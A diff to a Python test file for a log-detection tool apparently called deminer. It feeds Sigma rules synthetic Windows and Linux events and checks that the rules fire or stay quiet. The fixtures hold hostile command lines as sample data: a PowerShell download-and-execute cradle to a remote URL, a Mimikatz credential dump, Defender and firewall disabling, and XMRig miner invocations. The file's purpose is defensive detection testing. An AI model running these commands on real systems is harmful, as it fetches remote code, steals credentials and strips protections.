@@ -15,6 +15,7 @@ import pytest
 import yaml
 
 from deminer.case import Case
+from deminer.detect.engine import run_rule
 from deminer.detect.rules import load_rules
 from deminer.detect.sigma.loader import PACK_DIR, load
 from deminer.detect.sigma.run import sigma_findings
@@ -24,7 +25,6 @@ from tests.detect import sigma_gen as g
 Row = g.Row
 PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 SCHTASKS = r"C:\Windows\System32\schtasks.exe"
-NETSH = r"C:\Windows\System32\netsh.exe"
 
 
 def dns(name: str, image: str = r"C:\ProgramData\svc.exe") -> Row:
@@ -40,22 +40,8 @@ def conn(host: str | None, ip: str, port: int, image: str = r"C:\ProgramData\svc
     return g.win(g.SYSMON, 3, fields)
 
 
-def service(path: str, name: str = "qeZrWjkM") -> Row:
-    return g.win(g.SYSTEM, 7045, {"ServiceName": name, "ImagePath": path, "AccountName": "LocalSystem"})
-
-
-def service_4697(path: str, name: str = "qeZrWjkM") -> Row:
-    return g.win(g.SECURITY, 4697, {"ServiceName": name, "ServiceFileName": path,
-                                    "SubjectUserName": "admin"})
-
-
 def task(log: tuple[str, str], event_id: int, name: str) -> Row:
     return g.win(log, event_id, {"TaskName": name, "SubjectUserName": "admin", "UserContext": "SYSTEM"})
-
-
-def burst(logon_type: int, count: int) -> list[Row]:
-    return [g.failed_logon("45.141.84.10", f"sa{i % 3}", seconds=10 * i, logon_type=logon_type)
-            for i in range(count)]
 
 
 XMRIG_LINUX = ("./kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSk"
@@ -66,10 +52,6 @@ EXAMPLES: dict[str, tuple[Callable[[], list[Row]], Callable[[], list[Row]]]] = {
     "dns_query_win_mining_pool.yml": (
         lambda: [dns("pool.supportxmr.com"), dns("gulf.moneroocean.stream")],
         lambda: [dns("www.microsoft.com"), dns("notsupportxmr.com")]),
-    "driver_load_win_winring0.yml": (
-        lambda: [g.win(g.SYSMON, 6, {"ImageLoaded": r"C:\Windows\Temp\WinRing0x64.sys", "Signed": "true"})],
-        lambda: [g.win(g.SYSMON, 6, {"ImageLoaded": r"C:\Windows\System32\drivers\ntfs.sys"}),
-                 g.win(g.SYSMON, 7, {"Image": r"C:\x.exe", "ImageLoaded": r"C:\x\WinRing0x64.sys"})]),
     "net_connection_win_mining_pool.yml": (
         lambda: [conn("xmr-eu1.nanopool.org", "51.15.55.162", 14433)],
         lambda: [conn("update.microsoft.com", "13.107.4.50", 443), dns("pool.supportxmr.com")]),
@@ -82,21 +64,10 @@ EXAMPLES: dict[str, tuple[Callable[[], list[Row]], Callable[[], list[Row]]]] = {
         lambda: [g.linux("shell_command", XMRIG_LINUX, user="www-data", program="bash")],
         lambda: [g.linux("shell_command", "ssh -o StrictHostKeyChecking=no backup@10.0.0.2"),
                  g.proc(r"C:\x\xmrig.exe", "xmrig.exe --donate-level 1")]),
-    "proc_creation_win_defender_tamper.yml": (
-        lambda: [g.proc(PS, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
-                 g.proc(PS, r"powershell Add-MpPreference -ExclusionPath C:\ProgramData")],
-        lambda: [g.proc(PS, "powershell Get-MpPreference"),
-                 g.proc(PS, "powershell Set-MpPreference -SignatureScheduleDay 0")]),
     "proc_creation_win_mimikatz_cmdline.yml": (
         lambda: [g.proc(r"C:\Windows\Temp\m.exe",
                         'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit')],
         lambda: [g.proc(r"C:\Windows\System32\net.exe", "net user administrator")]),
-    "proc_creation_win_netsh_firewall_tamper.yml": (
-        lambda: [g.proc(NETSH, "netsh advfirewall set allprofiles state off"),
-                 g.proc(NETSH, "netsh firewall add portopening tcp 65529 SDNSd")],
-        lambda: [g.proc(NETSH, "netsh interface show interface"),
-                 g.proc(r"C:\Windows\System32\cmd.exe",
-                        "cmd /c echo advfirewall set allprofiles state off")]),
     "proc_creation_win_powershell_download_cradle.yml": (
         lambda: [g.proc(PS, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString("
                             "'http://t.amynx.com/gim.jsp')\"")],
@@ -116,38 +87,15 @@ EXAMPLES: dict[str, tuple[Callable[[], list[Row]], Callable[[], list[Row]]]] = {
                                   "/tr \"cmd /c powershell -nop -ep bypass -e SQBFAFgA\" /F")],
         lambda: [g.proc(SCHTASKS, "schtasks /create /tn GoogleUpdateTaskMachineUA /tr x.exe"),
                  g.proc(SCHTASKS, "schtasks /query /tn Ddrivers")]),
-    "proc_creation_win_svchost_outside_system32.yml": (
-        lambda: [g.proc(r"C:\Windows\Fonts\svchost.exe", "svchost.exe -k netsvcs")],
-        lambda: [g.proc(r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p"),
-                 g.proc(r"C:\WINDOWS\system32\svchost.exe", "svchost.exe -k LocalService"),
-                 g.proc(r"C:\Windows\SysWOW64\svchost.exe", "svchost.exe -k wow"),
-                 g.proc(r"C:\Windows\WinSxS\amd64_x\svchost.exe", "svchost.exe -k sxs")]),
     "proc_creation_win_xmrig_cmdline.yml": (
         lambda: [g.proc(r"C:\ProgramData\Microsoft\sys.exe",
                         "sys.exe -o pool.minexmr.com:4444 -u 4AdUnd -p x --donate-level=1 -k"),
                  g.proc(r"C:\Users\bob\xmrig.exe", "xmrig.exe")],
         lambda: [g.proc(r"C:\Program Files\Git\git.exe", "git fetch --all --prune")]),
-    "ps_script_win_defender_tamper.yml": (
-        lambda: [g.script("Set-MpPreference -DisableRealtimeMonitoring 1")],
-        lambda: [g.script("Get-MpComputerStatus | Select-Object AntivirusEnabled")]),
-    "win_security_failed_logon_burst.yml": (
-        lambda: burst(logon_type=3, count=12),
-        lambda: burst(logon_type=2, count=12) + burst(logon_type=3, count=9)),
     "win_security_miner_scheduled_task.yml": (
         lambda: [task(g.SECURITY, 4698, r"\Ddrivers")],
         lambda: [task(g.SECURITY, 4698, r"\Microsoft\Windows\Defrag\ScheduledDefrag"),
                  task(g.SECURITY, 4699, r"\Ddrivers")]),
-    "win_security_service_install_windows_temp.yml": (
-        lambda: [service_4697(r"C:\Windows\Temp\qeZrWjkM.exe")],
-        lambda: [service_4697(r"C:\Program Files\Vendor\svc.exe"), service(r"C:\Windows\Temp\a.exe")]),
-    "win_system_service_install_windows_temp.yml": (
-        lambda: [service(r"%SystemRoot%\Temp\svchost.exe"), service(r"C:\Windows\Temp\a.exe -s")],
-        # the rule's literal '%SystemRoot%' must not act as LIKE wildcards around SystemRoot
-        lambda: [service(r"D:\SystemRootBackup\Temp\a.exe"), service(r"C:\Windows\Temp\driver.sys"),
-                 service(r"%SystemRoot%\TempX\a.exe")]),
-    "win_system_service_winring0.yml": (
-        lambda: [service(r"C:\Users\bob\AppData\Local\Temp\WinRing0x64.sys", name="WinRing0_1_2_0")],
-        lambda: [service(r"C:\Windows\System32\spoolsv.exe", name="Spooler")]),
     "win_taskscheduler_miner_scheduled_task.yml": (
         lambda: [task(g.TASKSCHEDULER, 106, r"\DnsScan")],
         lambda: [task(g.TASKSCHEDULER, 106, r"\Microsoft\Windows\UpdateOrchestrator\Reboot"),
@@ -199,10 +147,51 @@ def test_pack_rule_fires_and_stays_quiet(name: str) -> None:
 
 def test_default_run_includes_the_pack() -> None:
     with Case(None) as case:
-        case.add("events", [g.proc(r"C:\Windows\Fonts\svchost.exe", "svchost.exe -k netsvcs")])
+        case.add("events", [g.proc(r"C:\Users\bob\xmrig.exe", "xmrig.exe")])
         found, problems = sigma_findings(case)
     assert problems == []
-    assert [f.rule for f in found] == ["defense_evasion.svchost_exe_started_outside_system32"]
+    assert [f.rule for f in found] == ["impact.xmrig_style_miner_command_line_on_windows"]
+
+
+def sql_duplicates() -> dict[str, list[Row]]:
+    """Attacks the SQL rules report once each: the pack must not report them a second time."""
+    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    netsh = r"C:\Windows\System32\netsh.exe"
+    return {
+        "credential_access.win_smb_brute_force": [
+            g.failed_logon("45.141.84.10", f"sa{i % 3}", seconds=10 * i) for i in range(12)],
+        "credential_access.win_rdp_brute_force": [
+            g.failed_logon("45.141.84.10", f"sa{i % 3}", seconds=10 * i, logon_type=10) for i in range(12)],
+        "defense_evasion.win_svchost_outside_system32": [
+            g.proc(r"C:\Windows\Fonts\svchost.exe", "svchost.exe -k netsvcs")],
+        "defense_evasion.win_winring0_driver": [
+            g.win(g.SYSMON, 6, {"ImageLoaded": r"C:\Windows\Temp\WinRing0x64.sys", "Signed": "true"}),
+            g.win(g.SYSTEM, 7045, {"ServiceName": "WinRing0_1_2_0", "AccountName": "LocalSystem",
+                                   "ImagePath": r"C:\Users\bob\AppData\Local\Temp\WinRing0x64.sys"})],
+        "defense_evasion.win_firewall_or_defender_tamper": [
+            g.proc(ps, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
+            g.proc(ps, r"powershell Add-MpPreference -ExclusionPath C:\ProgramData"),
+            g.script("Set-MpPreference -DisableRealtimeMonitoring 1"),
+            g.proc(netsh, "netsh advfirewall set allprofiles state off"),
+            g.proc(netsh, "netsh firewall add portopening tcp 65529 SDNSd")],
+        "execution.win_random_service_binary": [
+            g.win(g.SYSTEM, 7045, {"ServiceName": "Updater", "ImagePath": r"%SystemRoot%\Temp\update.exe",
+                                   "AccountName": "LocalSystem"}),
+            g.win(g.SECURITY, 4697, {"ServiceName": "Updater", "SubjectUserName": "admin",
+                                     "ServiceFileName": r"C:\Windows\Temp\update.exe"})],
+    }
+
+
+@pytest.mark.parametrize("rule", sorted(sql_duplicates()))
+def test_pack_does_not_repeat_the_sql_rules(rule: str) -> None:
+    # One attack, one finding: these used to give a pack finding next to the SQL rule's.
+    rows = sql_duplicates()[rule]
+    with Case(None) as case:
+        case.add("events", rows)
+        found, problems = sigma_findings(case)
+        sql = run_rule(case, next(r for r in load_rules() if r.id == rule))
+    assert problems == [] and [f.rule for f in found] == []
+    assert len(sql) == 1, [f.summary for f in sql]
 
 
 SHARED = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "windows-evtx"
@@ -216,7 +205,6 @@ def test_pack_on_real_attack_logs(tmp_path: Path) -> None:
         found, problems = sigma_findings(case)
     assert problems == []
     by_rule = {f.rule: f for f in found}
-    guess = by_rule["credential_access.password_guessing_against_windows_logons"]
-    # README: 3,561 failed type-3 logons from 192.168.198.149
-    assert guess.entity == "IpAddress=192.168.198.149" and guess.evidence["count"] == 3561
+    # The SMB guessing is credential_access.win_smb_brute_force's (test_windows_rules_shared).
+    assert not [f for f in found if any(a.startswith("T1110") for a in f.attack)]
     assert "execution.powershell_started_with_an_encoded_command" in by_rule
